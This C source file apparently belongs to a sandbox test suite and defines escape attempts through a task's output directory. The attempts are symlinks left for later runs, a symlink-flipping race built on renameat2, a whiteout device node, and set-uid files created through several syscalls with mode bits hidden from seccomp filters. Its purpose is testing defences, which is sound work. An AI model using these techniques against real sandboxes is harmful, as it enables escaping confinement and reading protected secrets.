/* SPDX-License-Identifier: MIT
 *
 * Attacks with what a task leaves in a directory that it may write to: it is a trap for the host
 * that starts the next run there, and for whoever collects it.
 *
 * The links are in a directory that the attacker makes itself. `out` is sticky, and there the
 * kernel follows no links of others (fs.protected_symlinks), so that a sandbox that follows them
 * would not show.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "cli/attack/bout.h"
#include "cli/attack/host.h"
#include "cli/attack/policy.h"

#define FLIPS_MS  30000
#define READY_MS  10000
#define TURNS     15
#define READS     200
#define AT_ONCE   64
#define SETID_ALL (S_ISUID | S_ISGID | 0755)

/* `name` below the directory for outputs. One at a time. */
static const char *in_out(struct wf_call *call, const char *name) {
	static char path[ATTACK_PATH + 32];

	(void)snprintf(path, sizeof path, "%s/%s", attack_brief(call)->out, name);
	return path;
}

/* --- the next run -------------------------------------------------------------------------- */

/* What the attacker is to do: to prepare something in one run, and to use it in a later one. */
enum act { ACT_PREPARE, ACT_USE };

/* Opens another executor in place of the ground's, under the policy of this column, which also
 * names `path` for reading. The caller has the first one. */
static int open_next(struct attack_ground *ground, const char *path) {
	struct wf_policy *policy = NULL;
	int r;

	ground->executor = NULL;
	r = attack_policy(ground, ground->column, &policy);
	if (r >= 0)
		r = wf_policy_add(policy, "read", path);
	if (r >= 0)
		r = attack_open(ground, policy);
	wf_policy_free(policy);
	return r;
}

/* Tells whether a later run was refused for its path: only then is a failure an answer. */
static bool is_for_path(const char *sentence, const char *path) {
	return strstr(sentence, path) || strstr(sentence, "symbolic links");
}

/* Where each worker has a /tmp of its own, it may be the worker that meets the link. */
static enum attack_verdict judge_next(struct attack_ground *ground,
				      const struct attack_bout *bout) {
	if (bout->outcome.kind != WF_NOT_STARTED)
		return attack_judge_secret(ground, bout);
	return bout->outcome.not_started.error == ELOOP ? ATTACK_STOPPED : ATTACK_ERROR;
}

static enum attack_verdict try_next(struct attack_ground *ground, const struct attack *attack,
				    const char *path) {
	struct wf_executor *first = ground->executor;
	enum attack_verdict verdict = ATTACK_ERROR;
	struct attack_bout bout;

	ground->brief.detail = ACT_USE;
	if (open_next(ground, path) < 0)
		verdict = is_for_path(wf_last_error(), path) ? ATTACK_STOPPED : ATTACK_ERROR;
	else if (attack_run(ground, attack, &bout))
		verdict = judge_next(ground, &bout);
	attack_close(ground);
	ground->executor = first;
	return verdict;
}

/* --- 84: a link that an earlier run has left ------------------------------------------------ */

/* A directory that later runs use becomes a link. They name it by an alias of the host's, so that
 * its name does not say that it is below `out`. */
static int leave_link(struct wf_call *call) {
	const struct attack_brief *brief = attack_brief(call);
	char path[2 * ATTACK_PATH], loot[64];
	int root = (int)(strlen(brief->out) - strlen("/out"));
	ssize_t n;
	bool done;

	if (brief->detail == ACT_PREPARE) {
		done = mkdir(in_out(call, "box"), 0777) == 0 &&
		       mkdir(in_out(call, "box/sub"), 0777) == 0 &&
		       rmdir(in_out(call, "box/sub")) == 0 &&
		       symlink(brief->outside, in_out(call, "box/sub")) == 0;
		return attack_answer(call, done, NULL, 0);
	}
	(void)snprintf(path, sizeof path, "%.*s/alias/box/sub/secret", root, brief->out);
	n = attack_read(path, loot, sizeof loot);
	if (n <= 0)
		n = attack_read(in_out(call, "box/sub/secret"), loot, sizeof loot);
	return attack_answer(call, n > 0, loot, n > 0 ? (size_t)n : 0);
}

static enum attack_verdict run_left_link(struct attack_ground *ground,
					 const struct attack *attack) {
	struct attack_bout bout;
	char path[ATTACK_PATH + 32];

	ground->brief.detail = ACT_PREPARE;
	if (symlinkat("out", ground->root_fd, "alias") < 0 || !attack_run(ground, attack, &bout) ||
	    !bout.believes)
		return ATTACK_ERROR;
	(void)snprintf(path, sizeof path, "%s/alias/box/sub", ground->root);
	return try_next(ground, attack, path);
}

static void remove_alias(struct attack_ground *ground) {
	(void)unlinkat(ground->root_fd, "alias", 0);
}

/* --- 85: a link that comes and goes --------------------------------------------------------- */

/* The host lets go of the line when it is over. */
static bool is_over(const struct wf_call *call) {
	struct pollfd poll_fd = { .fd = attack_line(call), .events = POLLIN };

	return poll(&poll_fd, 1, 0) != 0;
}

static bool flip_until_over(struct wf_call *call) {
	char one[ATTACK_PATH + 32], other[ATTACK_PATH + 32];
	bool done = mkdir(in_out(call, "box"), 0777) == 0 &&
		    mkdir(in_out(call, "box/flip"), 0777) == 0 &&
		    mkdir(in_out(call, "box/flip/deep"), 0777) == 0 &&
		    symlink(attack_brief(call)->outside, in_out(call, "box/link")) == 0;

	(void)snprintf(one, sizeof one, "%s", in_out(call, "box/flip"));
	(void)snprintf(other, sizeof other, "%s", in_out(call, "box/link"));
	done = done && renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0;
	attack_say(call, done ? 'h' : 'x', NULL, 0);
	while (done && !is_over(call))
		for (unsigned i = 0; i < AT_ONCE; i++)
			(void)renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
	return done;
}

static int flip_link(struct wf_call *call) {
	char loot[64];
	ssize_t n = 0;

	if (attack_brief(call)->detail == ACT_PREPARE)
		return attack_answer(call, flip_until_over(call), NULL, 0);
	for (unsigned i = 0; i < READS && n <= 0; i++)
		n = attack_read(in_out(call, "box/flip/secret"), loot, sizeof loot);
	return attack_answer(call, n > 0, loot, n > 0 ? (size_t)n : 0);
}

/* Starts the one that flips. Returns our end of its line, or -1 if it does not flip. */
static int start_flipping(struct attack_ground *ground, const struct attack *attack,
			  struct wf_future **ret) {
	struct pollfd poll_fd = { .events = POLLIN };
	int ends[2];
	char byte;
	bool flips;

	if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, ends) < 0)
		return -1;
	ground->brief.detail = ACT_PREPARE;
	poll_fd.fd = ends[0];
	flips = attack_submit(ground, attack, ends[1], ret);
	(void)close(ends[1]);
	flips = flips && poll(&poll_fd, 1, READY_MS) == 1 && recv(ends[0], &byte, 1, 0) == 1 &&
		byte == 'h';
	if (flips)
		return ends[0];
	(void)close(ends[0]);
	return -1;
}

/* Returns whether it has flipped until now. */
static bool stop_flipping(int line, struct wf_future *future) {
	bool flips = line >= 0 && !wf_future_outcome(future);

	if (line >= 0)
		(void)close(line);
	if (future && !wf_future_wait(future, READY_MS))
		(void)wf_future_kill(future, WF_NO_GRACE);
	(void)wf_future_free(future);
	return flips;
}

/* Later runs name what flips, and a directory in it, for which a mount point may be made. Nothing
 * may appear where the link leads. */
static enum attack_verdict run_flipped(struct attack_ground *ground, const struct attack *attack) {
	struct wf_future *future = NULL;
	int line = start_flipping(ground, attack, &future);
	enum attack_verdict verdict = line < 0 ? ATTACK_ERROR : ATTACK_STOPPED;
	char path[ATTACK_PATH + 32];
	struct stat info;

	for (unsigned i = 0; i < TURNS && verdict == ATTACK_STOPPED; i++) {
		(void)snprintf(path, sizeof path, "%s/box/flip%s", ground->brief.out,
			       i % 2 ? "/deep" : "");
		verdict = try_next(ground, attack, path);
	}
	if (!stop_flipping(line, future) && verdict == ATTACK_STOPPED)
		verdict = ATTACK_ERROR;
	if (fstatat(ground->root_fd, "outside/deep", &info, AT_SYMLINK_NOFOLLOW) == 0)
		verdict = ATTACK_THROUGH;
	return verdict;
}

static void clean_flipped(struct attack_ground *ground) {
	(void)unlinkat(ground->root_fd, "outside/deep", AT_REMOVEDIR);
}

/* --- 86: a device that is none -------------------------------------------------------------- */

/* Unlike other devices, a whiteout takes no privilege. Row 76 has one left by a rename. */
static int make_whiteout(struct wf_call *call) {
	bool done = mknod(in_out(call, "whiteout"), S_IFCHR | 0600, makedev(0, 0)) == 0;

	return attack_answer(call, done, NULL, 0);
}

static enum attack_verdict judge_whiteout(struct attack_ground *ground,
					  const struct attack_bout *bout) {
	struct stat info = { 0 };

	(void)bout;
	(void)fstatat(ground->root_fd, "out/whiteout", &info, AT_SYMLINK_NOFOLLOW);
	return attack_verdict(S_ISCHR(info.st_mode));
}

/* Tried where the ground will be. */
static const char *no_whiteout(void) {
	const char *parent = getenv("TMPDIR");
	char path[ATTACK_PATH];
	bool made;

	(void)snprintf(path, sizeof path, "%s/warmfork-attack.XXXXXX",
		       parent && parent[0] == '/' ? parent : "/tmp");
	if (!mkdtemp(path))
		return NULL;
	int directory = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	made = mknodat(directory, "node", S_IFCHR, makedev(0, 0)) == 0;
	(void)unlinkat(directory, "node", 0);
	if (directory >= 0)
		(void)close(directory);
	(void)rmdir(path);
	return made ? NULL : "the file system of TMPDIR or /tmp has no whiteouts";
}

/* --- 87: a set-uid file --------------------------------------------------------------------- */

/* The mode is where a filter cannot see it, in a higher half that the kernel ignores, or in an
 * argument that only counts with some flags. */
static int make_setid(struct wf_call *call) {
	struct open_how how = { .flags = O_WRONLY | O_CREAT, .mode = SETID_ALL };
	const unsigned long high = 1UL << 32;
	int directory = open(attack_brief(call)->out, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	char link[64], unnamed[ATTACK_PATH];
	int fd = (int)syscall(SYS_openat2, directory, "setid1", &how, sizeof how);
	bool done = fd >= 0;

	done |= syscall(SYS_openat, directory, "setid2", O_WRONLY | O_CREAT | high,
			SETID_ALL | high) >= 0;
	done |= syscall(SYS_creat, in_out(call, "setid3"), SETID_ALL | high) >= 0;
	done |= syscall(SYS_mknodat, directory, "setid4", S_IFREG | SETID_ALL | high, 0) == 0;
	(void)snprintf(unnamed, sizeof unnamed, "%s", attack_brief(call)->out);
	fd = (int)syscall(SYS_open, unnamed, O_WRONLY | O_TMPFILE, SETID_ALL);
	(void)snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	done |= fd >= 0 && linkat(AT_FDCWD, link, directory, "setid5", AT_SYMLINK_FOLLOW) == 0;
	return attack_answer(call, done, NULL, 0);
}

static enum attack_verdict judge_setid(struct attack_ground *ground,
				       const struct attack_bout *bout) {
	struct stat info;
	char path[32];
	bool through = false;

	(void)bout;
	for (unsigned i = 1; i <= 5; i++) {
		(void)snprintf(path, sizeof path, "out/setid%u", i);
		through |= fstatat(ground->root_fd, path, &info, AT_SYMLINK_NOFOLLOW) == 0 &&
			   (info.st_mode & (S_ISUID | S_ISGID));
	}
	return attack_verdict(through);
}

/* ------------------------------------------------------------------------------------------- */

#define LANDLOCK   (1U << ATTACK_LANDLOCK)
#define SECCOMP    (1U << ATTACK_SECCOMP)
#define NAMESPACES (1U << ATTACK_NAMESPACES)

static const struct attack rows[] = {
	{ 84, "a link that an earlier run has left", "leave_link", leave_link,
	  .stops = LANDLOCK | NAMESPACES, .run = run_left_link, .clean = remove_alias },
	{ 85, "a link that comes and goes", "flip_link", flip_link, .timeout_ms = FLIPS_MS,
	  .stops = LANDLOCK | NAMESPACES, .run = run_flipped, .clean = clean_flipped },
	{ 86, "a device node by mknod (whiteout)", "make_whiteout", make_whiteout,
	  .stops = LANDLOCK | SECCOMP, .judge = judge_whiteout, .inapplicable = no_whiteout },
	{ 87, "set-uid files by openat2 and other calls", "make_setid", make_setid,
	  .stops = SECCOMP, .judge = judge_setid },
};

const struct attack_rows attack_links = { rows, sizeof rows / sizeof rows[0] };
